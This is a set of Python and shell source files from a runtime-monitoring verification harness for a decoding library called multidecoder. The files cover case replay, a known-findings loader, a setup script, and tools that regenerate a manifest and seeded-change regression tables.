    """Re-executes exactly one recorded case, alone, in a fresh process under RLIMIT_CPU (so that a
    recorded hang is reproduced as a hang and not as a stuck replay)."""
    load_prop(pid)
    env.check_repo_import()
    with open(path) as f:
        doc = json.load(f)
    case = doc.get("case", doc)
    workdir = tempfile.mkdtemp(prefix=f"vf_{pid}_replay_", dir=env.scratch_root())
    try:
        budget = float(os.environ.get("VERIF_CASE_CPU", runner.CASE_CPU_BUDGET["thorough"]))
        verdict, res = runner.confirm_hang(pid, "quick", env.seed(), case, workdir, budget)
    finally:
        shutil.rmtree(workdir, ignore_errors=True)
    known = findings.load()
    violations = {}
    if verdict == "hang":
        key = "hang:" + (res or {}).get("where", "unknown")
        violations[key] = f"case did not terminate within {int(budget * 3)} CPU-seconds"
    elif verdict == "crash":
        violations["crash"] = f"process died: {res}"
    elif verdict == "ok":
        if res.get("harness_error"):
            print(f"INCONCLUSIVE property={pid} harness error during replay: {res['harness_error'].strip().splitlines()[-1]}")
            return 2
        for key, v in res.get("violations", {}).items():
            violations[key] = v["examples"][0]["message"]
    else:
        print(f"INCONCLUSIVE property={pid} replay watchdog fired")
        return 2
    rc = 0
    for key, msg in violations.items():
        if (pid, key) in known:
            print(f"KNOWN-FINDING: property={pid} key={key} {known[(pid, key)]}")
        else:
            print(f"[{pid}] reproduced key={key}: {msg}")
            rc = 1
    if rc:
        print(f"VIOLATION property={pid} replay={path}")
    else:
        print(f"[{pid}] replay: no unlisted violation on this case")
    return rc


def main(argv=None) -> int:
    argv = list(sys.argv[1:] if argv is None else argv)
    if argv and argv[0] == "--worker":
        return runner.worker_main(load_prop(argv[1]), argv[2:])
    if argv and argv[0] == "--single":
        return runner.single_main(load_prop(argv[1]), argv[2:])
    ap = argparse.ArgumentParser(prog="check")
    ap.add_argument("property")
    ap.add_argument("--tier", default=os.environ.get("VERIF_TIER", "quick"), choices=["quick", "thorough"])
    ap.add_argument("--replay")
    args = ap.parse_args(argv)
    pid = args.property.upper()
    if pid not in PROPS:
        print(f"unknown property {pid}", file=sys.stderr)
        return 3
    if args.replay:
        return run_replay(pid, args.replay)
    return run_check(pid, args.tier)


if __name__ == "__main__":
    sys.exit(main())
