"""Known findings: committed list of genuine, unrepaired defects.

File format (/verif/KNOWN_FINDINGS.txt), one entry per line:

    known: property=<ID> key=<mechanism key> :: <what fails> :: witness=<hex or text>
    fixed: property=<ID> <commit> <what failed>

Matching is by *mechanism key* only. A mechanism key is produced by the monitor
that saw the violation from (attributed decoder, violated clause, relation
between observed and expected values) - never from the input bytes, a hash of
them or a random value - so a different way of violating the same property has
a different key and is still reported. `fixed:` lines suppress nothing. The
file is never written at run time.
"""

from __future__ import annotations

import os

from vf import env

PATH = os.path.join(env.VERIF_DIR, "KNOWN_FINDINGS.txt")


def load() -> dict[tuple[str, str], str]:
    known: dict[tuple[str, str], str] = {}
    try:
        with open(PATH) as f:
            for line in f:
                line = line.strip()
                if not line.startswith("known:"):
                    continue
                body = line[len("known:"):].strip()
                head, _, rest = body.partition("::")
                fields = dict(tok.split("=", 1) for tok in head.split() if "=" in tok)
                if "property" in fields and "key" in fields:
                    known[(fields["property"], fields["key"])] = rest.strip()
    except OSError:
        pass
    return known
