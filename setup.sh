#!/bin/bash
# Offline setup: nothing is built or installed. The framework is pure Python run by /venv/bin/python (the
# repository's own interpreter, with regex and pefile) and uses only the standard library besides.
set -e
cd "$(dirname "$(readlink -f "$0")")"
chmod +x check tools/*.py 2>/dev/null || true
mkdir -p evidence
PYTHONDONTWRITEBYTECODE=1 /venv/bin/python - <<'PY'
import sys
sys.path.insert(0, ".")
from vf import env
print("multidecoder from", env.check_repo_import())
import regex, pefile
print("setup ok")
PY
