#!/venv/bin/python
"""Regenerates the per-property table of DESIGN.md section 9.8 from the property modules (plan() and RULE)."""
import importlib
import os
import sys

VERIF = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, VERIF)
HEAD = "| id | shards quick / thorough | rule |\n|---|---|---|\n"


def main():
    from vf import env  # noqa: F401  (puts the repository on sys.path)
    rows = []
    for i in range(1, 21):
        m = importlib.import_module(f"vf.props.c{i:02d}")
        q, t = len(m.plan("quick", 0)), len(m.plan("thorough", 0))
        rule = " ".join(str(m.RULE).split()).replace("|", "\\|")
        rows.append(f"| {m.ID} | {q} / {t} | {rule} |\n")
    p = os.path.join(VERIF, "DESIGN.md")
    s = open(p).read()
    a = s.index(HEAD, s.index("### 9.8"))
    b = a + len(HEAD)
    while s.startswith("| C", b):
        b = s.index("\n", b) + 1
    s = s[:a] + HEAD + "".join(rows) + s[b:]
    open(p, "w").write(s)
    print(len(rows), "rows")


if __name__ == "__main__":
    main()
