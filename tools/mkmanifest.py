#!/venv/bin/python
"""Regenerates /verif/MANIFEST.json from the table below (kept in one place so it is always valid)."""

import json
import os

HERE = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))

NOTE = ("Trusted base: CPython 3.12, the regex/pefile wheels, the stdlib, the reference implementations under "
        "/verif/vf/refs and the generators under /verif/vf/gens. Verdict is 'held on the executions observed' only; "
        "evidence lists what the monitors saw.")

CHECKS = {
    "C01": ("runtime monitoring: totality monitor (exceptions, CPU-time hang supervisor, faulthandler) over skeleton x "
            "exhaustive-tail, structured and mutated workloads",
            "Every generated (input, depth) is scanned with the default registry and all four read-only views are run; "
            "exceptions are keyed by innermost repository frame, hangs by a CPU-time supervisor with solitary re-run. "
            "Exploration: held on the N executions observed, nothing proved.", "2/C01"),
    "C03": ("runtime monitoring: structural tree invariant monitor on every scan result, decoder attribution through a registry tap",
            "Every node of every result tree is checked for uniqueness, parent pointer, pre-order iteration and in-bounds "
            "span; violations are attributed to the producing decoder call via object identity with tap snapshots. "
            "Exploration over generated inputs; two known findings (pinned by tests) are listed.", "2/C03"),
    "C19": ("runtime monitoring: reference-model oracle (independent substitution rule) on every node of random trees and scan results",
            "Node.flatten of every node of ~10^5 random trees and ~10^4 scan results is compared with an independent "
            "implementation of the stated rule; identity trees and undecoded scans must flatten unchanged; "
            "squash_replace compared where no overlap skipping applies. Exploration.", "2/C19"),
    "C04": ("runtime monitoring: registry tap (hit snapshots before attachment) vs the same Node objects after the scan",
            "Every kept hit of every search invocation is compared with its decoder-side snapshot: absolute position through the "
            "enclosing contexts, span length, original slice, context-only ancestry. Synthetic registries (complete small "
            "scopes + random) and the default registry on nested inputs. Exploration.", "2/C04"),
    "C05": ("runtime monitoring: child-list ordering invariant + per-search fate-of-enclosed-hit monitor over tap logs",
            "Engine-attached child lists must be laminar; hits enclosed by an earlier kept hit must be suppressed (decoded) or "
            "nested (context), tallied at top level and inside contexts separately. Exploration.", "2/C05"),
    "C06": ("runtime monitoring: executable reference model (interval nesting, absolute coordinates) compared node-for-node; "
            "small-scope exhaustive + random synthetic registries + replay of recorded real hit streams",
            "Engine output equals the independent model on ~3*10^6 synthetic configurations per quick run (complete enumeration of "
            "the <=3-hit scopes on texts of length <=2, sampled beyond; thorough completes length 3 and samples 4) and on every real hit "
            "stream recorded by the tap. Exploration, exhaustive only inside the stated scopes.", "2/C06"),
    "C07": ("runtime monitoring: activation tap (depth argument per recursion level, decoder calls per level) + metamorphic k / k+1 pairs",
            "Depth accounting is asserted at every scan_node activation; tree(k) is compared with tree(k+1) minus the deepest "
            "search pass, for synthetic registries incl. always-decodable ones and for the default registry. Exploration.", "2/C07"),
    "C08": ("runtime monitoring: differential oracle - sub-tree of every decoded node vs an independent scan_node of its value",
            "For decoded nodes of every result (<=20 per tree) the children are compared with a fresh, untapped scan of a node of "
            "the same type and value with the remaining depth. Exploration.", "2/C08"),
    "C16": ("runtime monitoring: function contract on strip_carets (independent caret automaton, exhaustive small alphabet + every call of "
            "every workload) and span/value recomputation monitors on the two shell decoders over constructed invocations",
            "strip_carets equals the automaton on all ~10^6 strings of length <=7 over 7 symbols; cmd/powershell results are "
            "re-derived from the text by the documented rules; encoded invocations have ground truth by construction. "
            "Exploration; one known finding (pinned end offset).", "2/C16"),
    "C17": ("runtime monitoring: reference-model oracle for keyword search, exhaustive over a small alphabet and length bound, sampled beyond, "
            "also through registries built from generated keyword directories",
            "find_keywords/find_all equal an independent left-to-right reference on all 1.4*10^7 (data<=6, keyword<=3) pairs over "
            "6 symbols, on random keyword sets with arbitrary bytes and through get_keywords() on generated directories. "
            "Exploration, exhaustive inside the stated scope.", "2/C17"),
    "C09": ("runtime monitoring: determinism monitor comparing canonical-tree digests across scan histories, PYTHONHASHSEED values "
            "(subprocesses), shuffled directory enumeration (os.scandir/os.listdir wrappers), threads sharing one scanner with yield "
            "injection, and CLI runs",
            "Digests of the same (input, depth, configuration) are compared across five dimensions, on a corpus built from the tie "
            "situations of the shipped keyword lists and registry configurations with include/exclude lists; earlier returned "
            "trees are re-checked for mutation. Exploration; thread schedules are not controllable, alternations are counted.", "2/C09"),
    "C18": ("runtime monitoring: behavioural registry oracle (independent walk of the keyword directory, AST-derived decoder set, pinned "
            "baseline list, per-decoder canary scans, systematic + random include/exclude configurations, generated keyword directories)",
            "Registry contents are compared with independently derived expectations for the default configuration, all singleton/pair "
            "include/exclude configurations, ~10^5 random ones and ~10^4 generated keyword directories. Exploration.", "2/C18"),
    "C20": ("runtime monitoring: round-trip and structural-equality oracles on random trees (single-field / shape mutations), CLI subprocess "
            "runs compared with the in-process tree",
            "JSON encoding/decoding and Node.__eq__ are checked on ~6*10^4 random trees with ~6*10^5 single-difference mutants; ~2000 "
            "CLI runs (file/stdin, --json, default, --replace, --keywords) are compared with the library result. Exploration.", "2/C20"),
    "C02": ("runtime monitoring: ground-truth-by-construction oracle over generated encoder stacks (chain of nodes, exact spans, independent "
            "re-scan of the payload, flatten), with per-encoder domain predicates and scan-checked preconditions",
            "~2*10^4 stacks of height 1-4 per quick run (1-10 thorough) over 21 encoder spellings and >300 distinct adjacent pairs are "
            "judged against the plaintext chain known by construction. Exploration.", "2/C02"),
    "C10": ("runtime monitoring: output-validity monitor on every network.* node of every result, producer attribution through the registry tap",
            "Well-formedness and normalisation of every reported IPv4 / domain / e-mail / URL node are re-checked with independent "
            "validators and an own percent-normaliser over grammar, near-miss, mutated and soup workloads. Exploration.", "2/C10"),
    "C11": ("runtime monitoring: ground-truth-by-construction detection oracle (type, canonical value, exact absolute span) plus metamorphic "
            "relocation of the same indicator",
            "Ten indicator kinds generated from grammars are embedded at offsets 0..1000 between verified-neutral text; the expected node "
            "must exist and its sub-tree must not depend on position. Exploration.", "2/C11"),
    "C12": ("runtime monitoring: independent RFC 3986 splitter / dot-segment / inet_aton / ntpath references compared with every URL and "
            "Windows-path part child; direct contracts on parse_url and the normalisers",
            "Every part child of every URL / Windows path node must span exactly its component of the parent's value and carry the "
            "decoded text and the right label; presence of children asserted on grammar-generated URLs. Exploration.", "2/C12"),
    "C13": ("runtime monitoring: independent RFC 4648 / hex / xor re-derivation of every labelled node + completeness cases at the boundary of "
            "each acceptance rule and -bxor key sweep",
            "Soundness on every base64 / hex / xor node met, completeness on generated encodings (accepted side of each rule) and keys "
            "0..999. Exploration.", "2/C13"),
    "C14": ("runtime monitoring: independent re-derivation of every xml / chr / unescape / utf-16 node + completeness over the whole value domains",
            "Soundness on every such node met; completeness over all byte values, code points incl. surrogates (must be absent), "
            "malformed escapes, Latin-1 UTF-16 runs, sequences of chr calls. Exploration.", "2/C14"),
    "C15": ("runtime monitoring: literal-parser re-evaluation of every concatenation / reverse / replace node + generated expressions with known value",
            "Each dialect's expressions are generated with the Python-level result as ground truth (exact span, type, label, value); "
            "every such node met elsewhere is re-evaluated when its text lies in the literal domain. Exploration.", "2/C15"),
}

TODO = {}


def main():
    props = [json.loads(l) for l in open(os.path.join(HERE, "properties.jsonl"))]
    checks = []
    na = []
    for p in props:
        pid = p["id"]
        if pid in CHECKS:
            tech, text, ref = CHECKS[pid]
            checks.append({
                "property_id": pid,
                "quick_cmd": f"./check {pid} --tier quick",
                "thorough_cmd": f"./check {pid} --tier thorough",
                "evidence_file": f"evidence/{pid}.json",
                "replay_cmd_template": f"./check {pid} --replay {{path}}",
                "engine": "vf",
                "level_claimed": {"category": "exploration", "text": text, "design_ref": f"DESIGN.md section {ref}"},
                "level_note": NOTE,
                "technique": tech,
            })
        else:
            na.append({"property_id": pid, "reason": TODO.get(pid, "runtime-monitoring check not built yet (applicable; under construction)")})
    manifest = {
        "version": 1,
        "setup_cmd": "./setup.sh",
        "hooks": {
            "guard": "MULTIDECODER_VERIF",
            "enable": "no source hooks: monitors attach from the harness process (registry tap on the public decoders list, "
                      "class-level wrapper of Multidecoder.scan_node, function wrappers); ./check exports MULTIDECODER_VERIF=1 "
                      "for interface completeness only",
            "baseline_off_cmd": "cd /repo && /venv/bin/python -m pytest -ra -q -p no:cacheprovider --timeout=900 --continue-on-collection-errors",
            "source_commits": [],
            "add_only": True,
        },
        "engines": [{"name": "vf", "path": "vf/", "serves_properties": sorted(CHECKS),
                     "kind_free_text": "runtime monitoring: supervisor + worker subprocesses, taps, reference-model oracles, generators"}],
        "checks": checks,
        "notes": "All checks import Multidecoder from ${VERIF_REPO:-/repo}/src (current working tree). Known findings: KNOWN_FINDINGS.txt.",
        "not_applicable": na,
    }
    with open(os.path.join(HERE, "MANIFEST.json"), "w") as f:
        json.dump(manifest, f, indent=1)
    print("wrote MANIFEST.json with", len(checks), "checks;", len(na), "not claimed")


if __name__ == "__main__":
    main()
