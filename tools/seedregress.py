#!/venv/bin/python
"""Re-runs every recorded seeded change (seeded/<ID>-<X>/patch.diff) against the checks that caught it and reports any that
is no longer caught. usage: tools/seedregress.py [--all-checks] [name ...]   (writes /tmp/mut/regress.log)"""
import json
import os
import subprocess
import sys

VERIF = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


def main():
    names = [a for a in sys.argv[1:] if not a.startswith("--")]
    all_checks = "--all-checks" in sys.argv
    seeds = sorted(os.listdir(os.path.join(VERIF, "seeded")))
    if names:
        seeds = [s for s in seeds if s in names]
    missed = []
    for s in seeds:
        d = os.path.join(VERIF, "seeded", s)
        meta = json.load(open(os.path.join(d, "meta.json")))
        checks = meta["caught_by"] if all_checks else [c for c in meta["caught_by"] if c == meta["property"]] or meta["caught_by"][:1]
        p = subprocess.run([os.path.join(VERIF, "tools", "seedtest.py"), d, ",".join(checks)], capture_output=True, text=True)
        try:
            out = json.loads(p.stdout[p.stdout.index("{"):])
        except ValueError:
            print(s, "ERROR", p.stdout[-300:], p.stderr[-300:], flush=True)
            missed.append(s)
            continue
        res = {c: v["rc"] for c, v in out["checks"].items()}
        ok = out.get("applies") and any(v == 1 for v in res.values())
        print(s, "applies" if out.get("applies") else "DOES-NOT-APPLY", out.get("tests", "")[:10], "demo", out.get("demo_with_change_rc"), res,
              "" if ok else "<<< NOT CAUGHT", flush=True)
        if not ok:
            missed.append(s)
    print("MISSED:", missed, flush=True)


if __name__ == "__main__":
    main()
