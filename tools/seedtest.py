#!/venv/bin/python
"""Confirm a seeded change and run checks against it on a scratch worktree.

usage: tools/seedtest.py <dir with patch.diff and demo.py> <CHECK_ID>[,<CHECK_ID>...] [--tier quick] [--keep]

Steps: scratch worktree of /repo HEAD under /tmp/mut, git apply, repository test suite (must pass), demo (must fail with
the change, pass on /repo), then each check with VERIF_REPO=<worktree>; the worktree is removed afterwards.
Prints one JSON line with the outcome."""

import json
import os
import shutil
import subprocess
import sys
import time

VERIF = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


def sh(cmd, **kw):
    return subprocess.run(cmd, shell=isinstance(cmd, str), capture_output=True, text=True, **kw)


def main():
    d = os.path.abspath(sys.argv[1])
    checks = sys.argv[2].split(",") if len(sys.argv) > 2 else []
    tier = "quick"
    if "--tier" in sys.argv:
        tier = sys.argv[sys.argv.index("--tier") + 1]
    name = d.strip("/").replace("/", "_")
    wt = f"/tmp/mut/{name}"
    os.makedirs("/tmp/mut", exist_ok=True)
    sh(f"git -C /repo worktree remove --force {wt}")
    shutil.rmtree(wt, ignore_errors=True)
    out = {"seed": d, "checks": {}}
    r = sh(f"git -C /repo worktree add -q --detach {wt} HEAD")
    if r.returncode:
        print(r.stderr)
        return 2
    try:
        r = sh(f"git -C {wt} apply {d}/patch.diff")
        out["applies"] = r.returncode == 0
        if r.returncode:
            out["apply_err"] = r.stderr[-300:]
            print(json.dumps(out))
            return 2
        env = dict(os.environ, PYTHONPATH=f"{wt}/src", PYTHONDONTWRITEBYTECODE="1")
        r = sh(f"cd {wt} && /venv/bin/python -m pytest -q -p no:cacheprovider --timeout=900 2>&1 | tail -1", env=env)
        out["tests"] = r.stdout.strip()
        demo = os.path.join(d, "demo.py")
        if os.path.exists(demo):
            try:
                r = sh(f"/venv/bin/python {demo}", env=env, timeout=600)
                out["demo_with_change_rc"] = r.returncode
            except subprocess.TimeoutExpired:
                out["demo_with_change_rc"] = "timeout"
            env0 = dict(os.environ, PYTHONPATH="/repo/src", PYTHONDONTWRITEBYTECODE="1")
            try:
                r = sh(f"/venv/bin/python {demo}", env=env0, timeout=600)
                out["demo_without_change_rc"] = r.returncode
            except subprocess.TimeoutExpired:
                out["demo_without_change_rc"] = "timeout"
        for c in checks:
            t0 = time.time()
            e = dict(os.environ, VERIF_REPO=wt, VERIF_EVIDENCE_DIR=f"/tmp/mut/ev_{name}")
            r = sh(f"cd {VERIF} && ./check {c} --tier {tier}", env=e)
            keys = [ln for ln in r.stdout.splitlines() if "violation key=" in ln or ln.startswith("INCONCLUSIVE")]
            out["checks"][c] = {"rc": r.returncode, "wall": round(time.time() - t0, 1), "lines": [k[:260] for k in keys[:6]]}
    finally:
        if "--keep" not in sys.argv:
            sh(f"git -C /repo worktree remove --force {wt}")
            shutil.rmtree(wt, ignore_errors=True)
            shutil.rmtree(f"/tmp/mut/ev_{name}", ignore_errors=True)
    print(json.dumps(out, indent=1))
    return 0


if __name__ == "__main__":
    sys.exit(main())
