#!/venv/bin/python
"""Copies confirmed seeded changes (patch, demonstration, notes) into /verif/seeded/<ID>-<X>/ with a meta.json built from the
seed-test logs. usage: tools/seedrecord.py <results.log> [...]"""
import json
import os
import shutil
import sys

VERIF = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


def objs(txt):
    out = []
    depth = 0
    start = None
    instr = esc = False
    for i, ch in enumerate(txt):
        if instr:
            if esc:
                esc = False
            elif ch == "\\":
                esc = True
            elif ch == '"':
                instr = False
            continue
        if ch == '"':
            instr = True
        elif ch == "{":
            if depth == 0:
                start = i
            depth += 1
        elif ch == "}":
            depth -= 1
            if depth == 0 and start is not None:
                try:
                    out.append(json.loads(txt[start:i + 1]))
                except ValueError:
                    pass
    return out


def main():
    for log in sys.argv[1:]:
        for o in objs(open(log).read()):
            d = o["seed"]
            parts = d.strip("/").split("/")
            pid, x = parts[-3], parts[-1]
            name = f"{pid}-{x}"
            confirmed = o.get("tests", "").startswith("308 passed") and o.get("demo_with_change_rc") not in (0, None) and o.get("demo_without_change_rc") == 0
            dst = os.path.join(VERIF, "seeded", name)
            meta_path = os.path.join(dst, "meta.json")
            meta = {}
            if os.path.exists(meta_path):
                meta = json.load(open(meta_path))
            if not confirmed and not meta:
                print("NOT CONFIRMED", name, o.get("tests"), o.get("demo_with_change_rc"), o.get("demo_without_change_rc"))
                continue
            os.makedirs(dst, exist_ok=True)
            for fn in ("patch.diff", "demo.py", "notes.md"):
                if os.path.exists(os.path.join(d, fn)):
                    shutil.copy(os.path.join(d, fn), os.path.join(dst, fn))
            notes = open(os.path.join(d, "notes.md")).read() if os.path.exists(os.path.join(d, "notes.md")) else ""
            meta.setdefault("property", pid)
            meta["origin"] = "independent sub-agent given only the property text and a scratch worktree"
            meta["needs_to_manifest"] = notes.strip()[:1500]
            meta["confirmed"] = {"repository_tests_with_change": o.get("tests"), "demo_exit_with_change": o.get("demo_with_change_rc"),
                                 "demo_exit_without_change": o.get("demo_without_change_rc"),
                                 "how": "tools/seedtest.py: scratch worktree of /repo HEAD + git apply, pytest, demo with/without the change, "
                                        "then ./check <ID> --tier quick with VERIF_REPO=<worktree>; worktree removed afterwards"}
            res = meta.setdefault("check_results", {})
            for c, v in o["checks"].items():
                res[c] = {"exit": v["rc"], "wall_s": v["wall"], "first_lines": v["lines"][:3]}
            meta["caught_by"] = sorted(c for c, v in res.items() if v["exit"] == 1)
            with open(meta_path, "w") as f:
                json.dump(meta, f, indent=1)
            print(name, "caught by", meta["caught_by"], "not by", sorted(c for c, v in res.items() if v["exit"] != 1))


if __name__ == "__main__":
    main()
