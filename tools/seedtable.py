#!/venv/bin/python
"""Regenerates the per-seed table of DESIGN.md section 9.6 from seeded/*/meta.json."""
import json
import os
import re

VERIF = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
HEAD = "| seed | mechanism (first line of the author's notes) | caught by |\n|---|---|---|\n"


def first_line(notes: str) -> str:
    for ln in notes.splitlines():
        ln = ln.strip().lstrip("#*- ").strip()
        if len(ln) > 25:
            return ln.replace("|", "\\|")[:150]
    return ""


def main():
    rows = []
    for name in sorted(os.listdir(os.path.join(VERIF, "seeded"))):
        mp = os.path.join(VERIF, "seeded", name, "meta.json")
        if not os.path.exists(mp):
            continue
        m = json.load(open(mp))
        rows.append(f"| {name} | {first_line(m.get('needs_to_manifest', ''))} | {', '.join(m.get('caught_by', [])) or '-'} |\n")
    p = os.path.join(VERIF, "DESIGN.md")
    s = open(p).read()
    a = s.index(HEAD)
    b = s.index("### 9.7", a)
    s = s[:a] + HEAD + "".join(rows) + "\n" + s[b:]
    open(p, "w").write(s)
    print(len(rows), "rows")


if __name__ == "__main__":
    main()
